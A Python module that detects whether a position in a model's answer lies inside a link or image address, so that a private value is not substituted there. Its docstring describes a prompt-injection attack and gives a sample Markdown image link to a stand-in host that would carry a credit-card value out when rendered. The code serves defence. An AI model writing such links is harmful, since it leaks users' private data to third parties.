"""Detects positions of an answer that are inside the address of a link or an image.

A client that renders an answer requests the addresses of its images without a click. A model that obeys instructions in
a text could write `![](https://elsewhere.example/?c=[CREDIT_CARD_1])`. If the value replaced the label
`[CREDIT_CARD_1]` there, the client's request would send the value to a third party.
"""

import re
from typing import Final

#: Number of characters before a position that are searched for the start of an address. Servers do not accept addresses
#: longer than this.
MAX_ADDRESS_CHARACTERS: Final = 8192
_TAG: Final = re.compile("<[A-Za-z]")


def is_inside_address(before: str) -> bool:
    """Return whether a position is inside an address. `before` is the text before the position, at least its last
    `MAX_ADDRESS_CHARACTERS` characters."""
    before = before[-MAX_ADDRESS_CHARACTERS:]
    run = "" if not before or before[-1].isspace() else before.rsplit(None, 1)[-1]
    # An address without markup, or an address that begins before the searched text.
    if "://" in run or len(run) == MAX_ADDRESS_CHARACTERS:
        return True
    # Markdown `[text](address`, also with spaces: `[text](<address with spaces`.
    link = before.rfind("](")
    if link >= 0 and ")" not in before[link:] and "\n" not in before[link:]:
        return True
    # Markdown reference `[name]: address`.
    line = before[before.rfind("\n") + 1 :].lstrip()
    if line.startswith("[") and "]:" in line:
        return True
    # HTML `<img src="address`. The quoted address may contain spaces and line breaks.
    after_tag = before[before.rfind(">") + 1 :]
    tag = _TAG.search(after_tag)
    return tag is not None and "//" in after_tag[tag.start() :]
